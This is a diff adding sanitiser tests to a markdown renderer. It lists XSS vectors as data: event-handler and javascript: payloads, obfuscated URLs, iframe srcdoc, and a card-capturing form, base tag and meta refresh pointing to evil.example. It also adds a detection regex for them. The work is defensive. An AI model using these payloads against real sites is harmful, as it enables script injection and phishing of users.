@@ -233,6 +233,68 @@ describe('renderPostBody: sanitizer', () => {
   });
 });
 
+describe('renderPostBody: hostile vectors the sanitiser blocks', () => {
+  /** Each vector on its own, so one that slips through is named. */
+  const vectors: Record<string, string> = {
+    svg: '<svg onload="alert(1)"><script>alert(1)</script><a href="javascript:alert(1)"><text>svg</text></a><animate attributeName="href" to="javascript:alert(1)"/></svg>',
+    math: '<math><mi xlink:href="javascript:alert(1)">math</mi><maction actiontype="statusline#http://evil.example/">x</maction></math>',
+    foreignObject: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe><img src=x onerror=alert(1)></foreignObject></svg>',
+    'iframe srcdoc': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    'details ontoggle': '<details open ontoggle="alert(1)"><summary>Подробнее</summary>Скрытый текст</details>',
+    form: '<form action="https://evil.example/" method="post"><input name="card"><button formaction="javascript:alert(1)">Оплатить</button></form>',
+    base: '<base href="https://evil.example/">',
+    'meta refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    'entity-obfuscated javascript:': '<a href="&#106;avascript&#58;alert(1)">a</a> <a href="jav&#x09;ascript:alert(1)">b</a> <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">c</a>',
+    'whitespace-obfuscated javascript:': '<a href=" javascript:alert(1)">a</a> <a href="java\tscript:alert(1)">b</a> <a href="java\nscript:alert(1)">c</a> <a href="&#x01;javascript:alert(1)">d</a>',
+    'markdown javascript: links': '[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](&#106;avascript:alert(1)) [d](<java\tscript:alert(1)>)\n\n![x](javascript:alert(1))',
+  };
+  // <input> is on GitHub's list as a task-list checkbox; the sanitiser makes every input a disabled one.
+  const DANGEROUS = /<(script|svg|math|foreignobject|iframe|form|button|base|meta|animate|maction)\b|<input(?! name="[^"]*" disabled type="checkbox">)|\son[a-z]+=|srcdoc|formaction|http-equiv|javascript|&#|evil\.example|alert/i;
+
+  for (const [name, markdown] of Object.entries(vectors)) {
+    test(`${name}: no dangerous element, attribute or URL survives`, async () => {
+      const { html } = await render(`${markdown}\n`);
+      assert.doesNotMatch(html, DANGEROUS, html);
+    });
+  }
+
+  test('what is harmless in them stays as text', async () => {
+    const { html } = await render(`${vectors['details ontoggle']}\n\n${vectors.svg}\n`);
+    assert.match(html, /<details open><summary>Подробнее<\/summary>Скрытый текст<\/details>/);
+    assert.match(html, /svg/);
+  });
+});
+
+describe("renderPostBody: editors' classes", () => {
+  test('no class written in HTML survives, whatever element and whatever class', async () => {
+    const { html } = await render(
+      [
+        '<h2 class="sr-only">Спрятанный заголовок</h2>',
+        '',
+        'Абзац с <span class="cta-button">кнопкой</span> и <code class="language-js">кодом</code>.',
+        '',
+        '<section class="footnotes" data-footnotes><ol class="contains-task-list"><li class="task-list-item">Пункт</li></ol></section>',
+        '',
+        '<div class="cta">',
+        '',
+        '**Markdown внутри HTML**',
+        '',
+        '</div>',
+      ].join('\n'),
+    );
+    assert.doesNotMatch(html, /class=/, html);
+    assert.match(html, /<h2 id="спрятанный-заголовок">Спрятанный заголовок<\/h2>/);
+  });
+
+  test('classes that markdown syntax makes stay: code language, task lists, footnotes', async () => {
+    const { html } = await render('```js\nx\n```\n\n- [x] Готово\n\nТекст[^1]\n\n[^1]: Сноска.\n');
+    assert.match(html, /<code class="language-js">/);
+    assert.match(html, /<ul class="contains-task-list">/);
+    assert.match(html, /<li class="task-list-item">/);
+    assert.match(html, /<section data-footnotes="" class="footnotes"><h2 class="sr-only" id="user-content-footnote-label">Примечания<\/h2>/);
+  });
+});
+
 describe('renderPostBody: footnotes', () => {
   const markdown = '## Раздел\n\nТекст[^1] и ещё[^note].\n\n[^1]: Первая сноска.\n[^note]: Вторая.\n';
 
